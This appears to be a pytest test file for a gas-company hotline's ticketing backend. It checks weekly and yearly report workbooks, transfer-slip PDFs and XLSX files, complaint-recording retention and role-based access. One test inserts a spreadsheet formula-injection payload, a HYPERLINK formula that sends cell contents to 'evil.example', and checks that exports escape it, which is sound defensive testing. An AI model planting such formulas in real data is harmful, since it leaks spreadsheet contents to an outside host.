"""A supervisor's week: the ticket summary as JSON and as a workbook, and the 投诉转接单 of
one ticket printed as PDF and XLSX (agents get neither); a complaint's recording kept long
and found by its ticket."""

from __future__ import annotations

import asyncio
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl

from hotline.core.roles import Role
from tests.api.test_tickets_api import T0, Api, api, drafted
from tests.factories import answered_call, pending_recording
from tests.tickets.test_service import COMPLAINT

__all__ = ["api"]  # the fixture


async def test_the_week_summary_and_the_transfer_slip_of_a_handled_gas_leak(api: Api) -> None:
    tid = await drafted(api)  # a gas leak, drafted and refined from the customer's words
    await api.act("wang", tid, "confirm")
    await api.act("boss", tid, "dispatch", unit="抢修中心")
    await api.act("boss", tid, "start")
    await api.act("boss", tid, "reply", reason="抢修人员已到场关阀，漏点已修复")

    week = T0.date().isoformat()  # Monday 2024-11-25, Shanghai
    r = await api.get("boss", "/api/ticket-reports", period="week", date=week)
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["title"] == "客服热线工单周报 2024年第48周"
    assert (report["created"], report["closed"], report["open"], report["urgent"]) == (1, 0, 1, 1)
    emergency = next(c for c in report["by_category"] if c["category"] == "emergency")
    assert emergency["label"] == "报警/紧急" and emergency["created"] == 1
    assert [u["unit"] for u in report["by_unit"]] == ["抢修中心"]

    r = await api.get("boss", "/api/ticket-reports", period="week", date=week, format="xlsx")
    assert r.status_code == 200 and "filename*=UTF-8''" in r.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert book.sheetnames[:3] == ["汇总", "分类", "责任单位"]
    cells = [str(c.value) for row in book["责任单位"].iter_rows() for c in row if c.value]
    assert "抢修中心" in cells

    other = await api.get("boss", "/api/ticket-reports", period="week", date="2024-12-02")
    assert other.json()["created"] == 0  # the next week has none

    url = f"/api/tickets/{tid}/transfer-slip"
    pdf = await api.get("boss", url, complainant="张先生", organisation="幸福燃气客服中心")
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    xlsx = await api.get("boss", url, format="xlsx", complainant="张先生")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
    assert "张先生" in values and "抢修中心" in values
    assert "抢修人员已到场关阀，漏点已修复" in values  # 处理情况: the unit's reply

    assert (await api.get("wang", "/api/ticket-reports")).status_code == 403
    assert (await api.get("wang", url)).status_code == 403
    bad = await api.get("boss", "/api/ticket-reports", period="week", date="2024-13-01")
    assert bad.status_code == 422 and "message" in bad.json()


async def test_a_complaint_keeps_its_recording_long_and_records_staff_find_it_by_ticket(
    api: Api,
) -> None:
    """重要的资料长期保存: the recording of a call whose ticket turns out a complaint is
    marked important (the long retention, audited as the system's doing), and records staff
    find it by the ticket's number."""
    c = api.container
    call = answered_call("7.1", at=T0)
    await c.calls.save([call])
    rec = await pending_recording(
        c.recordings, call.call_id, agent=call.agent_member, number=call.caller_number, at=T0
    )
    assert not rec.important
    draft = await c.tickets.on_call_ended(call)
    assert draft is not None
    await c.tickets.on_call_transcript(call.call_id, COMPLAINT)

    kept = await c.recordings.get(rec.id)
    assert kept is not None and kept.important
    assert kept.retain_until >= T0 + timedelta(days=3650)
    (entry,) = await c.recordings.audit_log(recording_id=rec.id)
    assert entry.actor == "system" and entry.action == "important"

    found = await api.get("boss", "/api/recordings", ticket=draft.id)
    assert [r["id"] for r in found.json()["items"]] == [rec.id]
    none = await api.get("boss", "/api/recordings", ticket=draft.id + 100)
    assert none.json()["total"] == 0


async def test_the_transfer_slip_is_dated_by_the_first_dispatch_to_its_unit(api: Api) -> None:
    """Sent to the wrong unit and returned, then to the right one on Tuesday; reopened on
    Thursday after a 不满意: the slip still says when the unit got it, Tuesday."""
    tid = await drafted(api)
    await api.act("wang", tid, "confirm")
    await api.act("boss", tid, "dispatch", unit="客服部")  # Monday
    await api.act("boss", tid, "return", reason="燃气管道归抢修中心")
    api.clock.now = T0 + timedelta(days=1)  # Tuesday
    await api.act("boss", tid, "dispatch", unit="抢修中心")
    await api.act("boss", tid, "start")
    await api.act("boss", tid, "reply", reason="已关阀检修")
    api.clock.now = T0 + timedelta(days=3)  # Thursday: 不满意 reopens it
    r = await api.post(
        "boss",
        f"/api/tickets/{tid}/followups",
        {"result": "reached", "satisfaction": "unsatisfied"},
    )
    assert r.json()["reopened"] == 1 and r.json()["dispatched_at"].startswith("2024-11-28")

    xlsx = await api.get("boss", f"/api/tickets/{tid}/transfer-slip", format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
    assert "2024年11月26日" in values and "2024年11月28日" not in values
    assert "工号 1001" in values  # 受理人: the agent's number, not the switch's PJSIP/1001


async def test_a_formula_typed_into_a_ticket_never_runs_in_the_supervisors_excel(
    api: Api,
) -> None:
    tid = await drafted(api)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    r = await api.client.patch(
        f"/api/tickets/{tid}", json={"summary": attack, "topic": "@SUM(1)"}, headers=api._h("wang")
    )
    assert r.status_code == 200, r.text
    await api.act("wang", tid, "confirm")
    await api.act("boss", tid, "dispatch", unit="-抢修中心")
    await api.act("boss", tid, "set_exposure", reason="+媒体曝光")

    xlsx = await api.get("boss", f"/api/tickets/{tid}/transfer-slip", format="xlsx")
    week = T0.date().isoformat()
    report = await api.get("boss", "/api/ticket-reports", period="week", date=week, format="xlsx")
    for body in (xlsx.content, report.content):
        book = openpyxl.load_workbook(io.BytesIO(body))
        values = [c.value for ws in book for row in ws.iter_rows() for c in row]
        texts = [v for v in values if isinstance(v, str)]
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))], texts
        assert "'-抢修中心" in texts  # the unit, shown as typed, escaped
    report_book = openpyxl.load_workbook(io.BytesIO(report.content))
    topics = [c.value for row in report_book["热点"].iter_rows() for c in row]
    assert "'@SUM(1)" in topics


async def finished(api: Api, who: str, url: str) -> dict[str, Any]:
    """Poll a report job as its page does until it is done or failed (the job runs in the
    service's own worker: on SQLite in `serve`, on PostgreSQL through procrastinate)."""
    for _ in range(600):
        r = await api.get(who, url)
        assert r.status_code == 200, r.text
        job: dict[str, Any] = r.json()
        assert 0 <= job["done"] <= max(job["total"], 1) and 0 <= job["percent"] <= 100
        if job["state"] in ("done", "failed"):
            return job
        await asyncio.sleep(0.1)
    raise AssertionError(f"report job {url} still {job['state']} after a minute")


async def test_a_years_report_is_made_by_a_job_and_downloaded_when_ready(api: Api) -> None:
    """年报: too large to hold a request, so the API answers 202 with the job's address; the
    supervisor who asked follows its progress and downloads the workbook; nobody else sees
    it, agents not even the address. A week is still answered at once."""
    tid = await drafted(api)
    await api.act("wang", tid, "confirm")
    await api.act("boss", tid, "dispatch", unit="抢修中心")

    r = await api.get(
        "boss", "/api/ticket-reports", period="year", date="2024-11-25", format="xlsx"
    )
    assert r.status_code == 202, r.text
    url = r.headers["location"]
    assert r.json()["url"] == url and r.json()["title"] == "客服热线工单年报 2024年.xlsx"
    assert r.json()["state"] in ("pending", "running", "done")

    job = await finished(api, "boss", url)
    assert job["state"] == "done" and job["error"] is None
    assert job["done"] == job["total"] == 2 and job["percent"] == 100
    file = await api.get("boss", job["download"])
    assert file.status_code == 200 and "filename*=UTF-8''" in file.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    assert book["汇总"]["A1"].value == "客服热线工单年报 2024年"
    units = [str(c.value) for row in book["责任单位"].iter_rows(min_row=3) for c in row]
    assert "抢修中心" in units

    await api.container.users.add("zhao", Role.SUPERVISOR, None, datetime.now(UTC))
    api.tokens["zhao"] = await api.container.users.issue_token("zhao", datetime.now(UTC))
    other = await api.get("zhao", url)
    assert other.status_code == 404 and "没有编号为" in other.json()["message"]
    assert (await api.get("zhao", job["download"])).status_code == 404
    assert (await api.get("wang", url)).status_code == 403
    assert (await api.get("wang", job["download"])).status_code == 403

    week = await api.get("boss", "/api/ticket-reports", period="week", date="2024-11-25")
    assert week.status_code == 200 and week.json()["created"] == 1


async def test_a_quarters_report_as_json_from_its_job_has_the_figures_of_the_route(
    api: Api,
) -> None:
    tid = await drafted(api)
    await api.act("wang", tid, "confirm")
    r = await api.get("boss", "/api/ticket-reports", period="quarter", date="2024-11-25")
    assert r.status_code == 202
    job = await finished(api, "boss", r.headers["location"])
    body = (await api.get("boss", job["download"])).json()
    month = (await api.get("boss", "/api/ticket-reports", period="month", date="2024-11")).json()
    assert body["title"] == "客服热线工单季报 2024年第4季度"
    assert body["created"] == month["created"] == 1
    assert body["by_category"] == month["by_category"]
